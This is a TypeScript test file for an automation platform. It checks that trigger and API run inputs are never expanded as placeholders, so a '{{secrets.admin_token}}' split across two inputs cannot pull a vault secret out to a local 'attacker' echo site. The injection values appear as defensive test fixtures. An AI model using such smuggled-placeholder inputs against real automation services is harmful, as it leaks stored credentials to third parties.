import { eq } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { automationRuns, workspaces } from '#server/db/schema/index.ts'
import { createTestApp, type TestApp } from '#server/testing/create-test-app.ts'
import { startOriginSite, type OriginSite } from '#server/testing/origin-site.ts'
import { runToEnd } from '#server/testing/run-to-end.ts'

// Run inputs are data (docs/decisions/039): every placeholder of a step is filled in one pass when
// it runs, so nothing an input brings is read as a placeholder, whether it is a whole
// `{{secrets.x}}` or two halves that meet in the step, or another input's placeholder. For trigger
// URLs, API starts and "Run again" alike (they all start runs with inputs the same way).

const TOKEN = 'planted-Admin-Token-93c1d5'

type Account = Awaited<ReturnType<TestApp['signUp']>>
type Answer<T> = { status: number; data: T; message?: string }

let t: TestApp
let home: OriginSite
let attacker: OriginSite
let business: Account

async function call<T>(account: Account | null, path: string, init: { method?: string; body?: unknown } = {}): Promise<Answer<T>> {
  const response = await t.request(path, { ...init, token: account?.token })
  const text = await response.text()
  return { status: response.status, ...(text ? (JSON.parse(text) as Omit<Answer<T>, 'status'>) : { data: undefined as T }) }
}

async function automationOf(steps: unknown[]): Promise<string> {
  const created = await call<{ id: string }>(business, '/api/automations', { body: { name: 'With inputs', steps } })
  expect(created.status, created.message).toBe(201)
  return created.data.id
}

/** What the attacker's site was asked for at /echo, decoded. */
const echoed = () =>
  attacker.requests.filter((request) => request.startsWith('/echo')).map((request) => new URL(request, 'http://x').searchParams.get('q'))

beforeAll(async () => {
  home = await startOriginSite()
  attacker = await startOriginSite()
  t = await createTestApp({ privateTargets: 'loopback' })
  business = await t.signUp()
  await t.db.update(workspaces).set({ planSlug: 'business', credits: 200 }).where(eq(workspaces.id, business.id))
  const secret = await call(business, '/api/vault', { body: { name: 'admin_token', kind: 'value', value: TOKEN, origins: [home.url] } })
  expect(secret.status, secret.message).toBe(201)
})
afterAll(async () => {
  await t?.close()
  await home?.close()
  await attacker?.close()
})

describe('inputs are data', () => {
  it('two trigger inputs that together read {{secrets.admin_token}} reach the page as those characters, never the secret', async () => {
    const automationId = await automationOf([{ type: 'navigate', url: `${attacker.url}/echo?q={{input.a}}{{input.b}}` }])
    const issued = await call<{ secret: string }>(business, `/api/automations/${automationId}/trigger`, { method: 'POST' })
    expect(issued.status, issued.message).toBe(201)
    const fired = await call<{ id: string }>(null, `/api/triggers/${issued.data.secret}`, {
      method: 'POST',
      body: { inputs: { a: '{', b: '{secrets.admin_token}}' } },
    })
    expect(fired.status, fired.message).toBe(202)
    const row = await runToEnd(t, fired.data.id)
    expect(row.error).toBeNull()
    expect(row.status).toBe('succeeded')
    expect(echoed()).toEqual(['{{secrets.admin_token}}'])
    expect(attacker.requests.some((request) => request.includes(TOKEN) || decodeURIComponent(request).includes(TOKEN))).toBe(false)
    // The run keeps its steps as written and the inputs beside them; answers show them filled in, once.
    expect(row.steps).toEqual([{ type: 'navigate', url: `${attacker.url}/echo?q={{input.a}}{{input.b}}` }])
    const shown = await call<{ steps: { url: string }[] }>(business, `/api/runs/${row.id}`)
    expect(shown.data.steps[0]?.url).toBe(`${attacker.url}/echo?q={{secrets.admin_token}}`)
  }, 120_000)

  it('an input whose value is a whole {{secrets.x}} or another {{input.y}} is typed as it reads', async () => {
    const automationId = await automationOf([
      { type: 'navigate', url: `${home.url}/login` },
      { type: 'type', target: [{ by: 'label', text: 'Token' }], text: '{{input.first}}|{{input.second}}' },
      { type: 'click', target: [{ by: 'role', role: 'button', name: 'Send' }] },
      { type: 'assertText', text: 'Signed in' },
    ])
    // Started by hand through the API, then again with the same inputs ("Run again" does the same).
    const inputs = { first: '{{secrets.admin_token}}', second: '{{input.first}}' }
    for (let attempt = 0; attempt < 2; attempt++) {
      const started = await call<{ id: string }>(business, `/api/automations/${automationId}/runs`, { body: { where: 'cloud', inputs } })
      expect(started.status, started.message).toBe(201)
      const row = await runToEnd(t, started.data.id)
      expect(row.error).toBeNull()
      expect(row.status).toBe('succeeded')
      expect(home.posted.at(-1)).toEqual({ token: '{{secrets.admin_token}}|{{input.first}}' })
    }
    expect(home.keystrokes.some((typed) => typed.includes(TOKEN))).toBe(false)
    const runs = await t.db.select().from(automationRuns).where(eq(automationRuns.automationId, automationId))
    expect(runs.map((run) => run.inputs)).toEqual([inputs, inputs])
  }, 120_000)
})
